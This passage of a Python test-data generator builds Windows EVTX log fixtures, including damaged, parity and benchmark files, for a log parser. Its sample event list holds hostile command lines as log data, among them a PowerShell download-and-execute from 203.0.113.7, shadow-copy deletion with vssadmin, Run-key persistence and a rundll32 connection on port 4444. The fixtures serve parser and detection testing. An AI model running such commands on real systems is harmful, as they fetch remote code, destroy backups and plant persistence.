        ev_sysmon11(204, 3, 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                    'C:\\Users\\alice\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil.bat'),
        ev_sysmon13(205, 4, 'C:\\Windows\\System32\\reg.exe',
                    'HKU\\S-1-5-21-1\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\evil',
                    'C:\\Users\\Public\\evil.exe'),
        ev_4688(206, 5, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all',
                'C:\\Windows\\System32\\cmd.exe'),
        ev_4688(207, 6, 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet',
                'C:\\Windows\\System32\\cmd.exe'),
        ev_4624(208, 7, 'Administrator', '198.51.100.23'),
        ev_7045(209, 8, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'),
        ev_4104(210, 9, "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
        ev_1102(211, 10),
        ev_fake_sysmon1(212, 11),
        ev_sysmon3(213, 12, 'C:\\Windows\\System32\\rundll32.exe', '203.0.113.7', 4444),
    ]


# ------------------------------------------------------------ damage

def damaged(base, kind):
    b = bytearray(base)
    c1 = HEADER_BLOCK + CHUNK  # second chunk
    if kind == 'truncated':
        return bytes(b[:c1 + 30000])
    if kind == 'bad-header-crc':
        b[c1 + 124] ^= 0xFF
        return bytes(b)
    if kind == 'bad-data-crc':
        # one byte of a string value in the second chunk's first record changes
        i = b.index('echo record'.encode('utf-16-le'), c1)
        b[i] = ord('E')
        return bytes(b)
    if kind == 'garbage-chunk':
        x = 0x2545F491
        for i in range(CHUNK):
            x = (x * 1103515245 + 12345) & 0x7FFFFFFF
            b[c1 + i] = (x >> 16) & 0xFF
        return bytes(b)
    if kind == 'bad-record-size':
        # the third record of the first chunk claims a size past the chunk end
        off = HEADER_BLOCK + 512
        for _ in range(2):
            off += struct.unpack_from('<I', b, off + 4)[0]
        b[off + 4:off + 8] = u32(0x7FFFFFF0)
        return bytes(b)
    if kind == 'bad-file-header-crc':
        b[124] ^= 0x55
        return bytes(b)
    if kind == 'zero-length':
        return b''
    if kind == 'header-only':
        return bytes(b[:HEADER_BLOCK])
    raise ValueError(kind)


def bad_template_file():
    """Three records; the second references a template offset where no
    template definition is (a dangling reference)."""
    evs = [ev_4688(1, 0, 'C:\\a.exe', 'a', 'C:\\p.exe'),
           ev_4104(2, 1, 'Get-Date'),
           ev_4688(3, 2, 'C:\\b.exe', 'b', 'C:\\p.exe')]
    c = Chunk()
    c.add(evs[0])
    c.add(evs[1], template_ref=0x1F0)  # inside the chunk header's template table
    c.add(evs[2])
    h = bytearray(b'ElfFile\0')
    h += u64(0) + u64(0) + u64(4) + u32(128) + u16(1) + u16(3) + u16(HEADER_BLOCK) + u16(1)
    h += bytes(76) + u32(0)
    h += u32(zlib.crc32(bytes(h[:120])))
    return bytes(h) + bytes(HEADER_BLOCK - len(h)) + c.finish()


def write(path, data):
    with open(path, 'wb') as f:
        f.write(data)


def write_jsonl(path, objs):
    with open(path, 'w', encoding='utf-8') as f:
        for o in objs:
            f.write(json.dumps(o, ensure_ascii=False, separators=(',', ':')) + '\n')


def testdata(d):
    os.makedirs(os.path.join(d, 'parity'), exist_ok=True)
    os.makedirs(os.path.join(d, 'damaged'), exist_ok=True)
    write(os.path.join(d, 'shapes.evtx'), write_evtx(shapes_events()))
    multi = write_evtx(many_events(120), records_per_chunk=40)
    write(os.path.join(d, 'multi.evtx'), multi)
    for kind in ('truncated', 'bad-header-crc', 'bad-data-crc', 'garbage-chunk',
                 'bad-record-size', 'bad-file-header-crc', 'zero-length', 'header-only'):
        write(os.path.join(d, 'damaged', kind + '.evtx'), damaged(multi, kind))
    write(os.path.join(d, 'damaged', 'bad-template.evtx'), bad_template_file())
    pe = parity_events()
    write(os.path.join(d, 'parity', 'events.evtx'), write_evtx(pe))
    write_jsonl(os.path.join(d, 'parity', 'events.evtx.jsonl'), [json_evtx_dump(e) for e in pe])
    write_jsonl(os.path.join(d, 'parity', 'events.winlogbeat.jsonl'),
                [json_winlogbeat(e) for e in pe])


def bench(path, n):
    events = []
    for i in range(n):
        rid = i + 1
        k = i % 8
        sec = i // 10
        if k in (0, 1):
            events.append(ev_sysmon1(rid, sec, 'C:\\Windows\\System32\\cmd.exe',
                                     'cmd.exe /c "C:\\Program Files\\App\\run.bat" %d' % rid))
        elif k == 2:
            events.append(ev_sysmon3(rid, sec, 'C:\\Windows\\System32\\svchost.exe',
                                     '10.%d.%d.%d' % (i % 7, i % 250, i % 199), 443))
        elif k == 3:
            events.append(ev_sysmon11(rid, sec, 'C:\\Windows\\explorer.exe',
                                      'C:\\Users\\alice\\Downloads\\file%d.tmp' % rid))
        elif k == 4:
            events.append(ev_4688(rid, sec, 'C:\\Windows\\System32\\conhost.exe',
                                  '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
                                  'C:\\Windows\\System32\\cmd.exe', newpid=0x1000 + i))
        elif k == 5:
            events.append(ev_4624(rid, sec, 'svc_backup', '10.0.%d.%d' % (i % 250, i % 13)))
        elif k == 6:
            events.append(ev_4104(rid, sec, 'Get-ChildItem C:\\Users -Recurse | Select-Object -First %d'
                                  % (i % 100)))
        else:
            events.append(ev_sysmon13(rid, sec, 'C:\\Windows\\System32\\svchost.exe',
                                      'HKLM\\SYSTEM\\CurrentControlSet\\Services\\bam\\State\\%d' % rid,
                                      'Binary Data'))
    write(path, write_evtx(events))


def probe_c():
    """The C array of src/input/evtx_probe.c: one Application event whose
    Data value "a" is U+1F600, as the non-zero prefixes of the file header
    and of the chunk (the rest of the 69632-byte file is zeros)."""
    sh = Shape('probe', 'trawl-probe', '00000000-0000-0000-0000-000000000001', 'Application',
               1, 0, 4, 0, 0, 0x0, [('a', T_STR)])
    data = write_evtx([Event(sh, 1, T0, 'probe', [S('\U0001F600')])])
    head = data[:128]
    chunk = data[HEADER_BLOCK:]
    used = len(chunk.rstrip(b'\0'))
    out = []
    for name, b in (('probe_header', head), ('probe_chunk', chunk[:used])):
        out.append('static const unsigned char %s[%d] = {' % (name, len(b)))
        for i in range(0, len(b), 16):
            out.append('    ' + ' '.join('0x%02x,' % x for x in b[i:i + 16]))
        out.append('};')
    return '\n'.join(out) + '\n'


def main(argv):
    if len(argv) >= 2 and argv[1] == 'probe':
        sys.stdout.write(probe_c())
        return 0
    if len(argv) >= 3 and argv[1] == 'testdata':
        testdata(argv[2])
    elif len(argv) >= 4 and argv[1] == 'bench':
        bench(argv[2], int(argv[3]))
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == '__main__':
    sys.exit(main(sys.argv))
